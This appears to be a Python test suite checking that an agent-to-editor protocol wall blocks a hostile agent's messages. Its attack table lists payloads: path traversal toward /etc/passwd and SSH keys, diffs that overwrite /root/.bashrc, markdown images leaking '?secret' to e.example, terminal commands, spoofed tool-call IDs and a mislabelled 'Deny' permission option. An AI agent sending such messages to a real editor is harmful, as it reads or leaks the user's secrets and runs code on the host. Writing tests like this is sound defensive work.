"""A hostile agent in a container against an editor that does whatever it is told, over the whole real way.

The editor opens, writes, runs, loads and follows everything that reaches it; whatever it did outside of the directory
of its session, and everything that it ran, is an effect on the host.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from acp_box import Box
from acp_schema import violations
from support import Shell

pytestmark = pytest.mark.usefixtures("base_image")


class Credulous:
    """The process of an editor, and a person who says yes."""

    def __init__(self, box: Box, place: Path) -> None:
        self.process = subprocess.Popen(box.words("connect"), stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        self.place, self.number = place, 0
        self.effects: list[str] = []
        self.said = ""
        self.asked: dict[int, str] = {}
        able = {"fs": {"readTextFile": True, "writeTextFile": True}, "terminal": True, "auth": {"terminal": True}}
        more = {"elicitation": {"form": {}, "url": {}}, "_meta": {"terminal-auth": True, "terminal_output": True}}
        self.call("initialize", protocolVersion=1, clientCapabilities=able | more)

    def call(self, method: str, **params: Any) -> Any:
        self.number += 1
        number, self.asked[self.number] = self.number, method
        self.send({"id": number, "method": method, "params": params})
        while True:
            assert self.process.stdout
            frame = json.loads(self.process.stdout.readline())
            assert violations(frame, self.asked) == []
            if "method" in frame:
                self.obey(frame)
            elif frame.get("id") == number:
                return frame

    def send(self, frame: dict[str, Any]) -> None:
        assert self.process.stdin
        self.process.stdin.write(json.dumps({"jsonrpc": "2.0", **frame}).encode() + b"\n")
        self.process.stdin.flush()

    def obey(self, frame: dict[str, Any]) -> None:
        method, params = frame["method"], frame.get("params", {})
        if method == "session/update":
            if params["update"]["sessionUpdate"] == "agent_message_chunk":
                self.said += params["update"]["content"].get("text", "")
            self.follow(params["update"])
        elif method == "session/request_permission":
            self.follow(params["toolCall"])
            chosen = {"outcome": "selected", "optionId": params["options"][0]["optionId"]}
            self.send({"id": frame["id"], "result": {"outcome": chosen}})
        elif "id" in frame:  # files, terminals, forms, anything: done as asked
            self.effects.append(f"{method} {json.dumps(params)}")
            self.send({"id": frame["id"], "result": {"content": "secret of the host", "terminalId": "t"}})
        elif method != "$/cancel_request":
            self.effects.append(method)

    def follow(self, value: Any, key: str = "") -> None:
        """Open, write and load everything in a value that looks like it could be."""
        if isinstance(value, dict):
            if value.get("type") == "terminal":
                self.effects.append(f"attached to terminal {value.get('terminalId')}")
            for name, item in value.items():
                if name not in {"rawInput", "rawOutput"}:
                    self.follow(item, name)
        elif isinstance(value, list):
            for item in value:
                self.follow(item, key)
        elif isinstance(value, str):
            if key in {"path", "uri", "cwd"} and not value.startswith(("https://", "attachment:///")):
                file = Path(unquote(value.removeprefix("file://")))
                if not file.resolve().is_relative_to(self.place.resolve()):
                    self.effects.append(f"opened {value}")
            if key in {"text", "title", "description", "content"} and re.search(r"!\[[^\]]*\]\(", value):
                self.effects.append(f"loaded {value}")
            if key == "toolCallId" and value.startswith("terok:"):
                self.effects.append("took a question for one of terok's")

    def leave(self) -> None:
        with self.process:
            assert self.process.stdin
            self.process.stdin.close()
            self.process.wait(20)


@pytest.fixture(scope="module")
def box(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Box]:
    one = Box(tmp_path_factory.mktemp("acp-attack"), agents=("alpha",))
    yield one
    one.remove()


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("project")


def told(update: dict[str, Any]) -> dict[str, Any]:
    return {"method": "session/update", "params": {"sessionId": "SESSION", "update": update}}


def tool(**fields: Any) -> dict[str, Any]:
    return told({"sessionUpdate": "tool_call", "toolCallId": "1", "title": "t", **fields})


def chunk(**block: Any) -> dict[str, Any]:
    return told({"sessionUpdate": "agent_message_chunk", "content": block})


def request(method: str, **params: Any) -> dict[str, Any]:
    return {"id": 900, "method": method, "params": {"sessionId": "SESSION", **params}}


def diff(path: str) -> dict[str, Any]:
    return {"type": "diff", "path": path, "oldText": "", "newText": "owned"}


OUT = ["/etc/passwd", "/workspace/../etc/passwd", "/workspace2/x", "/workspace//../x", "/workspace\\..\\x", "~/.ssh/id"]
ATTACKS: dict[str, list[dict[str, Any]]] = {
    "ACP-1": [tool(locations=[{"path": path} for path in OUT])],
    "ACP-2": [tool(content=[diff(path) for path in OUT])],
    "ACP-4": [chunk(type="resource_link", name="n", uri=f"file://{path}") for path in OUT],
    "ACP-5": [chunk(type="resource_link", name="n", uri=uri) for uri in ("vscode://x", "zed://x", "javascript:x")],
    "ACP-6": [
        chunk(type="resource", resource={"uri": "file:///etc/passwd", "text": "x"}),
        chunk(type="image", data="", mimeType="image/png", uri="file:///etc/passwd"),
    ],
    "ACP-7": [chunk(type="text", text="![x](https://e.example/?secret)"), tool(title="![x](https://e.example/)")],
    "ACP-8": [chunk(type="text", text=piece) for piece in ("!", "[x]", "(https://e.example/?secret", ")")],
    "ACP-9": [tool(content=[{"type": "terminal", "terminalId": "1"}])],
    "ACP-11": [request("fs/read_text_file", path="/etc/passwd")],
    "ACP-11w": [request("fs/write_text_file", path="/workspace/x", content="owned")],
    "ACP-12": [request("terminal/create", command="touch", args=["/tmp/owned"])],
    "ACP-13": [
        request("_zed/run", command="touch /tmp/owned"),
        {"method": "_zed/run", "params": {"sessionId": "SESSION"}},
    ],
    "ACP-14": [{"method": "_auth/status_update", "params": {"sessionId": "SESSION", "url": "https://e.example"}}],
    "ACP-18": [told({"sessionUpdate": "tool_call", "toolCallId": "terok:terok:1", "title": "terok asks"})],
    "ACP-19": [
        request(
            "session/request_permission",
            toolCall={"toolCallId": "terok:1", "content": [diff("/root/.bashrc")], "locations": [{"path": "/root"}]},
            options=[{"optionId": "y", "name": "Deny", "kind": "allow_always"}],
        )
    ],
    "ACP-20": [request("elicitation/create", mode="url", url="file:///etc/passwd", elicitationId="1", message="open")],
    "ACP-34": [{"method": "session/update", "params": {"sessionId": "another", "update": tool()["params"]["update"]}}],
    "ACP-57": [
        {
            "method": "session/update",
            "params": {**chunk(type="text", text="x")["params"], "_meta": {"update": {"path": "/etc"}}},
        }
    ],
}


@pytest.fixture(scope="module")
def editor(box: Box, place: Path) -> Iterator[Credulous]:
    one = Credulous(box, place)
    yield one
    one.leave()


@pytest.fixture(scope="module")
def session(editor: Credulous, place: Path) -> str:
    return str(editor.call("session/new", cwd=str(place), mcpServers=[])["result"]["sessionId"])


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_happens_on_the_host(attack: str, editor: Credulous, session: str) -> None:
    editor.effects, editor.said = [], ""
    prompt = [{"type": "text", "text": f"raw {json.dumps(ATTACKS[attack])}"}]
    done = editor.call("session/prompt", sessionId=session, prompt=prompt)
    assert done["result"]["stopReason"] == "end_turn"
    assert editor.effects == [] and "secret of the host" not in editor.said
    if any(frame.get("id") == 900 for frame in ATTACKS[attack]):
        assert '"900"' in editor.said, "the agent had an answer"


def test_the_editor_would_have_done_it(box: Box, place: Path) -> None:
    """The judge itself: what is sent past the wall has its effect."""
    one = Credulous(box, place)
    for name in ("ACP-1", "ACP-2", "ACP-4", "ACP-7", "ACP-9", "ACP-11", "ACP-12", "ACP-13", "ACP-18", "ACP-20"):
        one.effects.clear()
        one.obey(json.loads(json.dumps(ATTACKS[name][0]).replace("SESSION", "s")))
        assert one.effects, name
    one.leave()


def test_an_mcp_server_of_the_editor_s_reaches_no_agent_unless_the_shield_allows_it(
    ready: Shell, base_image: str
) -> None:
    name = "it-acp-shield"
    ready("terok-sandbox", "run", "-d", "--name", name, "--allow", "mcp.example", base_image, "--", "sleep", "600")
    code = """
from terok_acp.daemon.host_rules import with_host
from terok_acp.wall.rules import Rules
from terok_sandbox import SandboxConfig
for container in ("it-acp-shield", "it-acp-none"):
    rules = with_host(Rules(), SandboxConfig.load(), container, None)
    hosts = [("mcp.example", 443), ("other.example", 443), ("mcp.example", 22), ("10.0.0.1", 443)]
    print([rules.host_allowed(*one) for one in hosts])
"""
    try:
        answer = ready(sys.executable, "-c", code).out.split("\n")
    finally:
        ready("terok-sandbox", "rm", name, code=None)
    assert answer[0].startswith("[True, False, ") and answer[1] == "[False, False, False, False]"
